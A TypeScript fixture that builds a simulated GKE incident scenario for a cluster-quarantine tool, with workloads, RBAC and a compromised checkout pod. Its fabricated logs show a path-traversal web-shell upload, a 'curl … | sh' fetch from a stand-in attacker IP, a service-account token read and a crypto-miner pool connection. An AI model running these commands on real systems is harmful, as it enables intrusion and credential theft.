import type { World } from "../world";
import type { SimCluster } from "../kube/cluster";
import type { KObject } from "../kube/types";
import { addDualStackSubnet, addGkeCluster, addNetwork, addNode, seedApiServerEndpoints, seedClusterBasics } from "./infra";
import { createBarePod, createDaemonSet, createDeployment, createNetworkPolicy, createPdb, serviceObject, type WorkloadSpec } from "./builders";
import { applyServiceDefaults } from "../kube/controllers/services";
import { reconcileNow } from "../kube/controllers";
import { recordEvent } from "../kube/events";
import { rfc3339Nano, setContainerLog, type LogEntry } from "./logs";
import { addEstablishedFlow } from "../kube/netpol/flows";
import { addServiceAccount } from "../gcp/iam/service-accounts";
import { MINER, plantIntrusion } from "./compromise";

// The demo project acme-prod: `payments` (zonal, Dataplane V2, so NetworkPolicy is enforced)
// and `storefront` (regional, legacy datapath without the Calico add-on, so it is not; its nodes
// are in the dual-stack subnetwork storefront-dual-stack, with external IPv6 addresses).
//
// One checkout pod in payments is compromised (annotation airlock.sim/compromised=true). Its
// node also runs a frontend pod, the cache pod (emptyDir), the bare pod shop/debug-shell and a
// fluentbit-gke DaemonSet pod, while the other checkout replica runs elsewhere: draining that
// node shows every case `kubectl drain` has, and the checkout budget stays satisfiable.
//
// The world is built as it stood three days ago and the clock is then brought forward, so
// ages, events and the intrusion story have believable times.

export const COMPROMISED_ANNOTATION = "airlock.sim/compromised";
/** The dual-stack (IPV4_IPV6) subnetwork storefront's nodes are in. */
export const STOREFRONT_SUBNET = "storefront-dual-stack";
const BUILT_AGO_S = 3 * 86_400 + 4 * 3_600 + 17 * 60;
const STORY_AGO_S = 47 * 60;

const REGISTRY = "us-docker.pkg.dev/acme-prod/shop";

const fluentbit: WorkloadSpec = {
  labels: { "k8s-app": "fluentbit-gke", "kubernetes.io/cluster-service": "true" },
  selector: { "k8s-app": "fluentbit-gke" },
  containers: [
    {
      name: "fluentbit",
      image: "gke.gcr.io/fluent-bit:v1.8.12-gke.25",
      resources: { requests: { cpu: "50m", memory: "100Mi" }, limits: { memory: "250Mi" } },
      volumeMounts: [{ name: "varlog", mountPath: "/var/log" }],
    },
  ],
  volumes: [{ name: "varlog", hostPath: { path: "/var/log", type: "" } }],
  tolerations: [
    { operator: "Exists", effect: "NoExecute" },
    { operator: "Exists", effect: "NoSchedule" },
  ],
  serviceAccountName: "fluentbit-gke",
  priorityClassName: "system-node-critical",
};

function web(app: string, image: string, extra: Partial<WorkloadSpec> = {}): WorkloadSpec {
  return {
    labels: { app, ...(extra.labels ?? {}) },
    selector: extra.selector ?? { app },
    replicas: extra.replicas,
    containers: [
      {
        name: app,
        image,
        ports: [{ name: "http", containerPort: 8080, protocol: "TCP" }],
        resources: { requests: { cpu: "100m", memory: "128Mi" }, limits: { memory: "256Mi" } },
        livenessProbe: {
          httpGet: { path: "/healthz", port: 8080, scheme: "HTTP" },
          periodSeconds: 10,
          timeoutSeconds: 1,
          successThreshold: 1,
          failureThreshold: 3,
        },
      },
    ],
  };
}

function addService(world: World, cluster: SimCluster, svc: KObject): KObject {
  return cluster.store.create("services", applyServiceDefaults(world, cluster, svc));
}

function podsOf(cluster: SimCluster, ns: string, app: string): KObject[] {
  return cluster.store.list("pods", { namespace: ns }).filter((p) => p.metadata.labels?.app === app);
}

function buildShop(world: World, cluster: SimCluster, sizes: { frontend: number; checkout: number; cart: number; cache: boolean }): void {
  const { store } = cluster;
  createDaemonSet(cluster, "kube-system", "fluentbit-gke", fluentbit);
  reconcileNow(world, cluster);
  createDeployment(cluster, "shop", "frontend", web("frontend", `${REGISTRY}/frontend:2.14.1`, { replicas: sizes.frontend, labels: { tier: "web" } }));
  reconcileNow(world, cluster);
  addCheckoutIdentity(cluster);
  createDeployment(cluster, "shop", "checkout", {
    ...web("checkout", `${REGISTRY}/checkout:1.9.3`, { replicas: sizes.checkout, labels: { tier: "backend" } }),
    serviceAccountName: "checkout",
  });
  reconcileNow(world, cluster);
  createDeployment(cluster, "shop", "cart", { ...web("cart", `${REGISTRY}/cart:3.2.0`, { replicas: sizes.cart }), serviceAccountName: "cart" });
  reconcileNow(world, cluster);
  if (sizes.cache) {
    createDeployment(cluster, "shop", "cache", {
      labels: { app: "cache" },
      containers: [
        {
          name: "redis",
          image: "redis:7.2.5-alpine",
          ports: [{ name: "redis", containerPort: 6379, protocol: "TCP" }],
          volumeMounts: [{ name: "data", mountPath: "/data" }],
          resources: { requests: { cpu: "50m", memory: "64Mi" } },
        },
      ],
      volumes: [{ name: "data", emptyDir: {} }],
    });
    reconcileNow(world, cluster);
  }
  createPdb(cluster, "shop", "checkout-pdb", { app: "checkout" }, { minAvailable: 1 });
  createPdb(cluster, "shop", "frontend-pdb", { app: "frontend" }, { maxUnavailable: 1 });
  addService(
    world,
    cluster,
    serviceObject("shop", "frontend", { type: "LoadBalancer", selector: { app: "frontend" }, ports: [{ name: "http", port: 80, targetPort: "http" }] }),
  );
  addService(
    world,
    cluster,
    serviceObject("shop", "checkout", { type: "ClusterIP", selector: { app: "checkout" }, ports: [{ name: "http", port: 8080, targetPort: "http" }] }),
  );
  addService(
    world,
    cluster,
    serviceObject("shop", "cart", { type: "NodePort", selector: { app: "cart" }, ports: [{ name: "http", port: 80, targetPort: 8080 }] }),
  );
  if (sizes.cache)
    addService(
      world,
      cluster,
      serviceObject("shop", "cache", { type: "ClusterIP", selector: { app: "cache" }, ports: [{ name: "redis", port: 6379, targetPort: "redis" }] }),
    );
  addService(world, cluster, serviceObject("shop", "payments-gateway", { type: "ExternalName", externalName: "api.stripe.example.com" }));
  // Selects checkout by tier, a label in neither the ReplicaSet's nor any Service's selector:
  // stripping controller labels does not take the pod out of this allow (ERRATA 3).
  createNetworkPolicy(cluster, "shop", "allow-checkout-from-frontend", {
    podSelector: { matchLabels: { tier: "backend" } },
    policyTypes: ["Ingress"],
    ingress: [{ from: [{ podSelector: { matchLabels: { app: "frontend" } } }], ports: [{ protocol: "TCP", port: 8080 }] }],
  });
  for (const sa of ["default"])
    if (!store.get("serviceaccounts", "shop", sa))
      store.create("serviceaccounts", { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: sa, namespace: "shop" } });
  reconcileNow(world, cluster);
}

/** The Google service account checkout and cart both act as through Workload Identity. */
export const SHOP_GSA = "checkout@acme-prod.iam.gserviceaccount.com";
const RBAC = "rbac.authorization.k8s.io";

// What the stolen token is worth: checkout's KSA reads ConfigMaps and may patch pods in shop
// (so it could strip the quarantine label), it still has a legacy long-lived token Secret, and
// its Workload Identity GSA is shared with cart, so disabling the GSA would take cart down too.
function addCheckoutIdentity(cluster: SimCluster): void {
  const { store } = cluster;
  const ksa = (name: string) =>
    store.create("serviceaccounts", {
      apiVersion: "v1",
      kind: "ServiceAccount",
      metadata: { name, namespace: "shop", annotations: { "iam.gke.io/gcp-service-account": SHOP_GSA } },
      ...(name === "checkout" ? { secrets: [{ name: "checkout-token" }] } : {}),
    });
  ksa("checkout");
  ksa("cart");
  store.create("secrets", {
    apiVersion: "v1",
    kind: "Secret",
    type: "kubernetes.io/service-account-token",
    metadata: {
      name: "checkout-token",
      namespace: "shop",
      annotations: {
        "kubernetes.io/service-account.name": "checkout",
        "kubernetes.io/service-account.uid": store.get("serviceaccounts", "shop", "checkout")!.metadata.uid!,
      },
    },
    data: {
      "ca.crt": Buffer.from("-----BEGIN CERTIFICATE-----\nsimulated\n-----END CERTIFICATE-----\n").toString("base64"),
      namespace: Buffer.from("shop").toString("base64"),
      token: Buffer.from(`sim-legacy-token.${cluster.name}.shop.checkout`).toString("base64"),
    },
  });
  store.create(`${RBAC}/roles`, {
    apiVersion: `${RBAC}/v1`,
    kind: "Role",
    metadata: { name: "checkout-runtime", namespace: "shop" },
    rules: [
      { apiGroups: [""], resources: ["configmaps"], verbs: ["get", "list", "watch"] },
      { apiGroups: [""], resources: ["pods"], verbs: ["get", "list", "patch"] },
    ],
  });
  store.create(`${RBAC}/rolebindings`, {
    apiVersion: `${RBAC}/v1`,
    kind: "RoleBinding",
    metadata: { name: "checkout-runtime", namespace: "shop" },
    roleRef: { apiGroup: RBAC, kind: "Role", name: "checkout-runtime" },
    subjects: [{ kind: "ServiceAccount", name: "checkout", namespace: "shop" }],
  });
}

function buildPayments(world: World): { cluster: SimCluster; compromised: KObject } {
  const cluster = world.addCluster("payments", "us-central1-a");
  // Its kubelets serve the checkpoint API (ContainerCheckpoint on, a runtime that supports it);
  // storefront's do not, as most GKE clusters today.
  cluster.kubeletCheckpoint = true;
  // Auto-repair and the autoscaler both on, and node credentials reachable from pods: every
  // threat to a quarantined node that issue 11's protect-node answers is real here.
  addGkeCluster(
    world,
    cluster,
    {
      datapathProvider: "ADVANCED_DATAPATH",
      calicoEnabled: false,
      autopilot: false,
      autoRepair: true,
      autoscaling: { minNodeCount: 1, maxNodeCount: 5 },
      workloadMetadata: "GCE_METADATA",
    },
    ["us-central1-a"],
  );
  seedClusterBasics(cluster, ["shop"]);
  seedApiServerEndpoints(world, cluster);
  for (let i = 0; i < 3; i++) addNode(world, cluster, { zone: "us-central1-a", index: i });
  buildShop(world, cluster, { frontend: 3, checkout: 2, cart: 1, cache: true });

  // The compromised checkout pod is the one sharing a node with the cache (emptyDir) pod.
  const cache = podsOf(cluster, "shop", "cache")[0];
  const node = cache.spec.nodeName as string;
  const checkout = podsOf(cluster, "shop", "checkout");
  const victim = checkout.find((p) => p.spec.nodeName === node);
  const other = checkout.find((p) => p.spec.nodeName !== node);
  const frontendHere = podsOf(cluster, "shop", "frontend").some((p) => p.spec.nodeName === node);
  if (!victim || !other || !frontendHere)
    throw new Error(`demo layout broken: node ${node} must host checkout, cache and frontend pods with the second checkout elsewhere`);

  createBarePod(cluster, "shop", "debug-shell", {
    labels: { run: "debug-shell" },
    nodeName: node,
    containers: [{ name: "debug-shell", image: "busybox:1.36", command: ["sleep", "86400"] }],
  });
  reconcileNow(world, cluster);

  const marked = structuredClone(cluster.store.get("pods", "shop", victim.metadata.name)!);
  marked.metadata.annotations = { ...(marked.metadata.annotations ?? {}), [COMPROMISED_ANNOTATION]: "true" };
  delete marked.metadata.resourceVersion;
  return { cluster, compromised: cluster.store.update("pods", marked) };
}

function buildStorefront(world: World): SimCluster {
  const cluster = world.addCluster("storefront", "us-central1");
  const zones = ["us-central1-a", "us-central1-b", "us-central1-c"];
  addGkeCluster(
    world,
    cluster,
    { datapathProvider: "LEGACY_DATAPATH", calicoEnabled: false, autopilot: false, autoRepair: true, workloadMetadata: "GKE_METADATA" },
    zones,
  );
  seedClusterBasics(cluster, ["shop"]);
  seedApiServerEndpoints(world, cluster);
  // storefront's nodes sit in a dual-stack subnetwork: quarantine must close IPv6 too.
  addDualStackSubnet(world, STOREFRONT_SUBNET, "10.130.0.0/20", cluster.location);
  zones.forEach((zone, i) => addNode(world, cluster, { zone, index: i, dualStackSubnet: STOREFRONT_SUBNET }));
  buildShop(world, cluster, { frontend: 2, checkout: 2, cart: 1, cache: false });
  return cluster;
}

/**
 * GKE's kube-dns (two replicas behind Service kube-system/kube-dns at 10.8.0.10, 53 UDP and
 * TCP), so egress probes to cluster DNS have a real backend and policies that allow DNS by
 * namespace and label match it. Added after the shop is placed, so the demo layout holds.
 */
function addKubeDns(world: World, cluster: SimCluster): void {
  createDeployment(cluster, "kube-system", "kube-dns", {
    replicas: 2,
    labels: { "k8s-app": "kube-dns" },
    selector: { "k8s-app": "kube-dns" },
    containers: [
      {
        name: "kubedns",
        image: "gke.gcr.io/k8s-dns-kube-dns:1.23.0-gke.9",
        ports: [
          { name: "dns-local", containerPort: 10053, protocol: "UDP" },
          { name: "dns-tcp-local", containerPort: 10053, protocol: "TCP" },
          { name: "metrics", containerPort: 10055, protocol: "TCP" },
        ],
        resources: { requests: { cpu: "100m", memory: "70Mi" }, limits: { memory: "210Mi" } },
      },
      {
        name: "dnsmasq",
        image: "gke.gcr.io/k8s-dns-dnsmasq-nanny:1.23.0-gke.9",
        ports: [
          { name: "dns", containerPort: 53, protocol: "UDP" },
          { name: "dns-tcp", containerPort: 53, protocol: "TCP" },
        ],
        resources: { requests: { cpu: "150m", memory: "20Mi" } },
      },
    ],
    serviceAccountName: "kube-dns",
    priorityClassName: "system-cluster-critical",
    tolerations: [
      { key: "CriticalAddonsOnly", operator: "Exists" },
      { key: "components.gke.io/gke-managed-components", operator: "Exists" },
    ],
  });
  addService(
    world,
    cluster,
    (() => {
      const svc = serviceObject("kube-system", "kube-dns", {
        selector: { "k8s-app": "kube-dns" },
        labels: { "k8s-app": "kube-dns", "kubernetes.io/cluster-service": "true", "kubernetes.io/name": "KubeDNS" },
        ports: [
          { name: "dns", port: 53, protocol: "UDP", targetPort: 53 },
          { name: "dns-tcp", port: 53, protocol: "TCP", targetPort: 53 },
        ],
      });
      svc.spec.clusterIP = "10.8.0.10";
      svc.spec.clusterIPs = ["10.8.0.10"];
      return svc;
    })(),
  );
  reconcileNow(world, cluster);
}

/** Events and logs of the intrusion, from the first web-shell request to the miner. */
function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
  const ns = pod.metadata.namespace!;
  const name = pod.metadata.name;
  const node = pod.spec.nodeName as string;
  const ip = pod.status.podIP as string;
  const c = "checkout";
  const ref = { kind: "Pod", namespace: ns, name, uid: pod.metadata.uid, apiVersion: "v1", fieldPath: `spec.containers{${c}}` };
  const falco = { component: "falco", host: node };
  const t0 = world.clock.now();
  const at = (s: number) => rfc3339Nano(t0 + s * 1000, s);
  const story: LogEntry[] = [
    [0, `{"level":"info","msg":"request","method":"POST","path":"/api/v1/orders","status":201,"ms":41}`],
    [
      12,
      `{"level":"warn","msg":"request","method":"POST","path":"/api/v1/checkout/attachments","status":200,"ms":9,"remote":"203.0.113.45","ua":"python-requests/2.31.0","filename":"../../app/static/health.jsp"}`,
    ],
    [31, `{"level":"warn","msg":"request","method":"GET","path":"/static/health.jsp","query":"c=id","status":200,"ms":3,"remote":"203.0.113.45"}`],
    [32, "uid=10001(app) gid=10001(app) groups=10001(app)"],
    [
      58,
      `{"level":"warn","msg":"request","method":"GET","path":"/static/health.jsp","query":"c=curl%20-s%20http://203.0.113.45/x.sh%20|%20sh","status":200,"ms":2113,"remote":"203.0.113.45"}`,
    ],
    [59, "+ curl -s http://203.0.113.45/x.sh"],
    [60, "+ sh"],
    [61, `[x.sh] arch=x86_64 dropping ${MINER.path}`],
    [63, "[x.sh] cat /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/.t"],
    [
      64,
      `[x.sh] GET https://10.8.0.1:443/api/v1/namespaces/shop/secrets -> 403 Forbidden: secrets is forbidden: User "system:serviceaccount:shop:default" cannot list resource "secrets" in API group "" in the namespace "shop"`,
    ],
    [66, "[x.sh] GET https://10.8.0.1:443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews -> 201"],
    [70, "[kworkerd] * ABOUT        XMRig/6.21.0 gcc/12.2.0"],
    [71, `[kworkerd] * POOL #1      ${MINER.pool.ip}:${MINER.pool.port} algo rx/0`],
    [74, `[kworkerd] [2025-02-06 14:02:11.482]  net      use pool ${MINER.pool.ip}:${MINER.pool.port}  ${MINER.pool.ip}`],
    [75, "[kworkerd] [2025-02-06 14:02:11.902]  cpu      use profile  rx  (4 threads) scratchpad 2048 KB"],
    [140, `{"level":"error","msg":"request","method":"POST","path":"/api/v1/orders","status":504,"ms":10003,"error":"context deadline exceeded"}`],
    [141, `{"level":"warn","msg":"slow health check","ms":1187}`],
  ].map(([s, line]) => ({ time: at(s as number), line: line as string }));
  const started = (pod.status.containerStatuses?.[0]?.state?.running?.startedAt as string) ?? pod.status.startTime;
  const startMs = Date.parse(started);
  const before: LogEntry[] = [
    { time: rfc3339Nano(startMs + 150, 1), line: `{"level":"info","msg":"starting","version":"1.9.3","port":8080}` },
    { time: rfc3339Nano(startMs + 190, 2), line: `{"level":"info","msg":"connected to database","host":"10.20.0.5:5432","pool":10}` },
    { time: rfc3339Nano(startMs + 230, 3), line: `{"level":"info","msg":"listening","addr":":8080"}` },
    { time: rfc3339Nano(startMs + 3_600_000, 4), line: `{"level":"info","msg":"request","method":"POST","path":"/api/v1/orders","status":201,"ms":37}` },
  ];
  setContainerLog(cluster, ns, name, c, [...before, ...story]);

  let stepped = 0;
  const step = (s: number) => {
    stepped += s;
    world.clock.advance(s);
  };
  step(31);
  recordEvent(
    world,
    cluster,
    ref,
    "Warning",
    "SuspiciousExec",
    `Notice A shell was spawned in a container with an attached terminal or by a web server (user=app container=${c} shell=sh parent=java cmdline=sh -c id pod=${name} ns=${ns} image=${REGISTRY}/checkout:1.9.3)`,
    falco,
  );
  step(28);
  recordEvent(
    world,
    cluster,
    ref,
    "Warning",
    "SuspiciousExec",
    `Critical Download piped to shell (user=app container=${c} cmdline=sh -c curl -s http://203.0.113.45/x.sh | sh pod=${name} ns=${ns})`,
    falco,
  );
  step(4);
  recordEvent(
    world,
    cluster,
    ref,
    "Warning",
    "SensitiveFileRead",
    `Warning Service account token read by unexpected process (file=/var/run/secrets/kubernetes.io/serviceaccount/token proc=cat parent=sh pod=${name} ns=${ns})`,
    falco,
  );
  step(11);
  // The miner's pool connection (story second 74) is still open now; what cuts it is the
  // datapath's business (sim/kube/netpol/flows.ts).
  const checkoutStatus = (pod.status.containerStatuses ?? []).find((s: { name: string }) => s.name === c);
  addEstablishedFlow(cluster, {
    namespace: ns,
    pod: name,
    podUid: pod.metadata.uid!,
    container: c,
    restartCount: checkoutStatus?.restartCount ?? 0,
    process: MINER.name,
    protocol: "TCP",
    localIp: ip,
    localPort: MINER.localPort,
    remoteIp: MINER.pool.ip,
    remotePort: MINER.pool.port,
    establishedAt: t0 + 74_000,
  });
  plantIntrusion(cluster, pod, c, t0);
  recordEvent(
    world,
    cluster,
    ref,
    "Warning",
    "OutboundConnection",
    `Critical Outbound connection to known cryptocurrency mining pool (connection=${ip}:${MINER.localPort}->${MINER.pool.ip}:${MINER.pool.port} proc=${MINER.name} pod=${name} ns=${ns})`,
    falco,
  );
  step(67);
  for (let i = 0; i < 3; i++) {
    recordEvent(
      world,
      cluster,
      ref,
      "Warning",
      "Unhealthy",
      `Liveness probe failed: Get "http://${ip}:8080/healthz": context deadline exceeded (Client.Timeout exceeded while awaiting headers)`,
      { component: "kubelet", host: node },
    );
    step(10);
  }
  return stepped;
}

// The GSA behind checkout and cart (Workload Identity: both KSAs are workloadIdentityUser
// members, from both clusters' shared workload pool), with one user-managed key someone
// downloaded long ago next to the system-managed one Google rotates.
function addShopServiceAccount(world: World): void {
  const pool = `${world.project}.svc.id.goog`;
  addServiceAccount(world.gcp.iam, world.project, {
    email: SHOP_GSA,
    displayName: "shop checkout and cart",
    uniqueId: "104857600123456789012",
    members: {
      "roles/iam.workloadIdentityUser": [`serviceAccount:${pool}[shop/checkout]`, `serviceAccount:${pool}[shop/cart]`],
    },
    keys: [
      { id: "3f1c0ffee0ddba11deadbeef0123456789abcdef", type: "USER_MANAGED", validAfter: "2025-06-02T09:14:31Z" },
      { id: "9a8b7c6d5e4f30211203f4e5d6c7b8a9f0e1d2c3", type: "SYSTEM_MANAGED", validAfter: "2026-11-20T00:00:00Z" },
    ],
  });
}

export function buildDemoScenario(world: World): void {
  world.clock.advance(-BUILT_AGO_S);
  addNetwork(world);
  addShopServiceAccount(world);
  const { cluster: payments, compromised } = buildPayments(world);
  const storefront = buildStorefront(world);
  addKubeDns(world, payments);
  addKubeDns(world, storefront);
  world.clock.advance(BUILT_AGO_S - STORY_AGO_S);
  const told = tellStory(world, payments, compromised);
  world.clock.advance(STORY_AGO_S - told);
}

/** The compromised pod of a demo cluster (found by its scenario annotation). */
export function findCompromisedPod(cluster: SimCluster): KObject | undefined {
  for (const pod of cluster.store.scan("pods")) if (pod.metadata.annotations?.[COMPROMISED_ANNOTATION] === "true") return pod;
  return undefined;
}
